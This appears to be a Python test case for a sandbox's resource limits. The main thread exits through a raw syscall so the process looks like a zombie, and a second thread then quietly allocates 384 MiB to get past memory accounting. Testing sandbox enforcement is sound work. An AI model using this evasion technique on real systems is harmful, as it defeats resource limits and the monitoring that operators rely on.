import ctypes
import mmap
import platform
import threading
import time

from echo import attempt, serve

LIMIT, STEP = 384 << 20, 16 << 20


def take():
    while open("/proc/self/stat").read().rpartition(")")[2].split()[0] != "Z":
        time.sleep(0.01)
    held = mmap.mmap(-1, LIMIT)
    for offset in range(0, LIMIT, STEP):
        held[offset : offset + STEP] = b"x" * STEP
        time.sleep(0.01)
    time.sleep(0.5)
    return f"{LIMIT >> 20} MiB, and nobody looks"


def attack():
    attempt("memory of a second thread", take)
    serve()


threading.Thread(target=attack).start()
# exit(2), not exit_group(2): this thread alone ends.
ctypes.CDLL(None).syscall({"x86_64": 60}.get(platform.machine(), 93), 0)
